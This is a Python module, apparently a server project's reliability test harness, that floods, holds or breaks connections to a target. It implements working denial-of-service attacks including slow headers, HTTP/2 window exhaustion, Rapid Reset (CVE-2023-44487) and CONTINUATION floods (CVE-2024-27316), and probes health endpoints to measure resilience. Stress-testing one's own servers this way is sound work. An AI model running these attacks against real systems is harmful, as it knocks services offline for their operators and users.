"""The attackers: programs that hold, flood or break connections for a limited time.

    python -m perf.reliability.attacker KIND HOST PORT SECONDS NUMBER [STREAMS]

Prints its counts as JSON at the end. `NUMBER`: concurrent connections; `STREAMS`: streams on each.
All bytes are built here, because a library would refuse to send most of them.
"""

from __future__ import annotations

import json
import resource
import socket
import struct
import sys
import time
from collections import Counter
from collections.abc import Awaitable, Callable

import hpack
import trio

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RST_STREAM, SETTINGS, PING, GOAWAY, WINDOW_UPDATE, CONTINUATION = (
    0,
    1,
    3,
    4,
    6,
    7,
    8,
    9,
)
END_STREAM, END_HEADERS, ACK = 1, 4, 1
FRAME = 16384  # bytes of DATA in a frame
PAUSE = 0.05  # seconds before a closed connection is opened again
GONE = (OSError, trio.BrokenResourceError, trio.ClosedResourceError)

counts: Counter[str] = Counter()


def frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    """One HTTP/2 frame (RFC 9113 section 4.1)."""
    return struct.pack(">I", len(payload))[1:] + struct.pack(">BBI", kind, flags, stream) + payload


def head(method: str, path: str = "/") -> bytes:
    """A header block without dynamic entries, so that it can be sent on any stream."""
    encoder = hpack.Encoder()
    encoder.header_table_size = 0
    return encoder.encode(
        [(":method", method), (":scheme", "http"), (":path", path), (":authority", "shop")]
    )


class Victim:
    """The address under attack."""

    def __init__(self, host: str, port: int, streams: int) -> None:
        self.host = host
        self.port = port
        self.streams = streams

    async def connect(self) -> trio.SocketStream:
        """A new connection. Raises OSError."""
        stream = await trio.open_tcp_stream(self.host, self.port)
        # Close with a reset: a normal close waits behind the bytes that a closed window holds back,
        # so the other side would not see it.
        stream.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
        counts["opened"] += 1
        return stream


class Flow:
    """What an HTTP/2 peer allows to send: windows per stream and for the connection (RFC 9113
    section 5.2).
    """

    def __init__(self) -> None:
        self.initial = self.connection = 65535
        self.streams: dict[int, int] = {}
        self.changed = trio.Event()
        self.ended = False

    def grant(self, stream: int, size: int) -> None:
        if stream == 0:
            self.connection += size
        elif stream in self.streams:
            self.streams[stream] += size
        self.changed.set()

    def resize(self, initial: int) -> None:
        for stream in self.streams:
            self.streams[stream] += initial - self.initial
        self.initial = initial
        self.changed.set()

    async def read(self, stream: trio.SocketStream) -> None:
        """Process the peer's frames until it closes the connection."""
        buffer = b""
        try:
            while data := await stream.receive_some(65536):
                buffer += data
                while len(buffer) >= 9 and len(buffer) >= 9 + (
                    size := int.from_bytes(buffer[:3], "big")
                ):
                    self._frame(
                        buffer[3],
                        buffer[4],
                        int.from_bytes(buffer[5:9], "big"),
                        buffer[9 : 9 + size],
                    )
                    buffer = buffer[9 + size :]
        except GONE:
            pass
        self.ended = True
        self.changed.set()

    def _frame(self, kind: int, flags: int, stream: int, payload: bytes) -> None:
        if kind == WINDOW_UPDATE:
            self.grant(stream, int.from_bytes(payload, "big"))
        elif kind == SETTINGS and not flags & ACK:
            for at in range(0, len(payload), 6):
                name, value = struct.unpack(">HI", payload[at : at + 6])
                if name == 4:
                    self.resize(value)
        elif kind == RST_STREAM:
            counts["resets"] += 1
            self.streams.pop(stream, None)
        elif kind == GOAWAY:
            counts["goaways"] += 1
        elif kind == HEADERS:
            counts["answers"] += 1


async def forever(
    victim: Victim, attack: Callable[[trio.SocketStream, Victim], Awaitable[None]]
) -> None:
    """Attack on one connection, and on a new one whenever it ends."""
    while True:
        try:
            async with await victim.connect() as stream:
                await attack(stream, victim)
        except* GONE:
            counts["closed"] += 1
        await trio.sleep(PAUSE)


async def until_closed(stream: trio.SocketStream) -> None:
    """Read until the other side ends the connection."""
    while data := await stream.receive_some(65536):
        counts["bytes"] += len(data)
    counts["closed"] += 1


# The kinds of attack


async def idle(stream: trio.SocketStream, _: Victim) -> None:
    """Send nothing."""
    await until_closed(stream)


async def refused(stream: trio.SocketStream, _: Victim) -> None:
    """Send a request, and keep the connection open whatever the response."""
    await stream.send_all(b"GET / HTTP/1.1\r\nHost: shop\r\n\r\n")
    await until_closed(stream)


async def handshakes(stream: trio.SocketStream, _: Victim) -> None:
    """Start a TLS handshake and stop."""
    await stream.send_all(b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03" + bytes(40))
    await until_closed(stream)


async def heads(stream: trio.SocketStream, _: Victim) -> None:
    """Send a request's head, one byte per second."""
    text = b"GET / HTTP/1.1\r\nHost: shop\r\nX-Long: " + b"x" * 10_000
    for at in range(len(text)):
        await stream.send_all(text[at : at + 1])
        await trio.sleep(1)


async def scrape(stream: trio.SocketStream, _: Victim) -> None:
    """Request the metrics repeatedly on one connection."""
    while True:
        await stream.send_all(b"GET /metrics HTTP/1.1\r\nHost: shop\r\n\r\n")
        buffer = b""
        while b"\r\n\r\n" not in buffer:
            data = await stream.receive_some(65536)
            if not data:
                return
            buffer += data
        before, body = buffer.split(b"\r\n\r\n", 1)
        fields = dict(line.lower().split(b": ", 1) for line in before.split(b"\r\n")[1:])
        left = int(fields[b"content-length"]) - len(body)
        while left > 0:
            data = await stream.receive_some(65536)
            if not data:
                return
            left -= len(data)
        counts["scrapes"] += 1


async def uploads(stream: trio.SocketStream, _: Victim) -> None:
    """Send a body of 1 GiB to a server that does not read: as much as is accepted."""
    await stream.send_all(b"POST / HTTP/1.1\r\nHost: shop\r\nContent-Length: 1073741824\r\n\r\n")
    piece = bytes(65536)
    while True:
        await stream.send_all(piece)
        counts["bytes"] += len(piece)


async def windows(stream: trio.SocketStream, victim: Victim) -> None:
    """Send bodies on many streams to a server that does not read: as much as the windows allow."""
    flow = Flow()
    block = head("POST")
    numbers = [2 * each + 1 for each in range(victim.streams)]
    flow.streams = dict.fromkeys(numbers, flow.initial)
    opening = b"".join(frame(HEADERS, END_HEADERS, number, block) for number in numbers)
    await stream.send_all(
        PREFACE + frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 2**31 - 1)) + opening
    )
    async with trio.open_nursery() as nursery:
        nursery.start_soon(flow.read, stream)
        while not flow.ended:
            flow.changed = trio.Event()
            for number in list(flow.streams):
                size = min(FRAME, flow.streams.get(number, 0), flow.connection)
                if size > 0:
                    flow.streams[number] -= size
                    flow.connection -= size
                    counts["bytes"] += size
                    await stream.send_all(frame(DATA, 0, number, bytes(size)))
                    flow.changed.set()
            await flow.changed.wait()
        nursery.cancel_scope.cancel()


async def headers(stream: trio.SocketStream, victim: Victim) -> None:
    """Send many requests in one write; repeat after the answers or after a second."""
    flow = Flow()
    block = head("GET")
    first = 1
    async with trio.open_nursery() as nursery:
        nursery.start_soon(flow.read, stream)
        await stream.send_all(PREFACE + frame(SETTINGS, 0, 0))
        while not flow.ended:
            numbers = range(first, first + 2 * victim.streams, 2)
            first += 2 * victim.streams
            await stream.send_all(
                b"".join(
                    frame(HEADERS, END_HEADERS | END_STREAM, number, block) for number in numbers
                )
            )
            counts["requests"] += victim.streams
            await trio.sleep(1)
        nursery.cancel_scope.cancel()


async def resets(stream: trio.SocketStream, victim: Victim) -> None:
    """Send requests and reset them at once (CVE-2023-44487)."""
    flow = Flow()
    block = head("GET")
    cancel = struct.pack(">I", 8)
    first = 1
    async with trio.open_nursery() as nursery:
        nursery.start_soon(flow.read, stream)
        await stream.send_all(PREFACE + frame(SETTINGS, 0, 0))
        while not flow.ended:
            numbers = range(first, first + 2 * victim.streams, 2)
            first += 2 * victim.streams
            pairs = (
                frame(HEADERS, 5, number, block) + frame(RST_STREAM, 0, number, cancel)
                for number in numbers
            )
            await stream.send_all(b"".join(pairs))
            counts["requests"] += victim.streams
            await trio.sleep(0.01)
        nursery.cancel_scope.cancel()


async def continuation(stream: trio.SocketStream, _: Victim) -> None:
    """Send a head that never ends (CVE-2024-27316)."""
    await stream.send_all(PREFACE + frame(SETTINGS, 0, 0) + frame(HEADERS, 0, 1, head("GET")))
    piece = frame(CONTINUATION, 0, 1, b"\x00\x01x\x01y" * 200)
    while True:
        await stream.send_all(piece)
        counts["frames"] += 1


async def pings(stream: trio.SocketStream, _: Victim) -> None:
    """Send PING frames, as many as are accepted; do not read the answers."""
    await stream.send_all(PREFACE + frame(SETTINGS, 0, 0))
    piece = frame(PING, 0, 0, bytes(8)) * 100
    while True:
        await stream.send_all(piece)
        counts["frames"] += 100


async def churn(victim: Victim, number: int) -> None:
    """Open many connections and close all at once; repeat a second later."""
    while True:
        streams: list[trio.SocketStream] = []
        async with trio.open_nursery() as nursery:

            async def connect(streams: list[trio.SocketStream] = streams) -> None:
                try:
                    streams.append(await victim.connect())
                except OSError:
                    counts["failed"] += 1

            for _ in range(number):
                nursery.start_soon(connect)
        for stream in streams:
            stream.socket.close()
        await trio.sleep(1)


async def probe(victim: Victim) -> None:
    """Ask /live and /ready in turn, ten times a second, each on a new connection; `slowest` is in
    milliseconds."""
    for path in ("/live", "/ready") * 100_000:
        began = time.perf_counter()
        answer = b""
        try:
            with trio.fail_after(5):
                async with await trio.open_tcp_stream(victim.host, victim.port) as stream:
                    await stream.send_all(
                        f"GET {path} HTTP/1.1\r\nHost: shop\r\nConnection: close\r\n\r\n".encode()
                    )
                    while data := await stream.receive_some(65536):
                        answer += data
        except (*GONE, trio.TooSlowError):
            pass
        counts["probes"] += 1
        counts["failed"] += not answer.startswith(b"HTTP/1.1 200")
        counts["slowest"] = max(counts["slowest"], round((time.perf_counter() - began) * 1000))
        await trio.sleep(0.1)


KINDS = (
    idle,
    refused,
    handshakes,
    heads,
    scrape,
    uploads,
    windows,
    headers,
    resets,
    continuation,
    pings,
)


async def main(*arguments: str) -> None:
    """Attack for the given time, and print what was done."""
    kind, host, port, seconds, number, streams = (*arguments, "1", "1")[:6]
    victim = Victim(host, int(port), int(streams))
    with trio.move_on_after(float(seconds)):
        if kind == "probe":
            await probe(victim)
        elif kind == "churn":
            await churn(victim, int(number))
        else:
            attack = {each.__name__: each for each in KINDS}[kind]
            async with trio.open_nursery() as nursery:
                for _ in range(int(number)):
                    nursery.start_soon(forever, victim, attack)
    print(json.dumps(counts), flush=True)


if __name__ == "__main__":
    resource.setrlimit(resource.RLIMIT_NOFILE, (resource.getrlimit(resource.RLIMIT_NOFILE)[1],) * 2)
    trio.run(main, *sys.argv[1:])
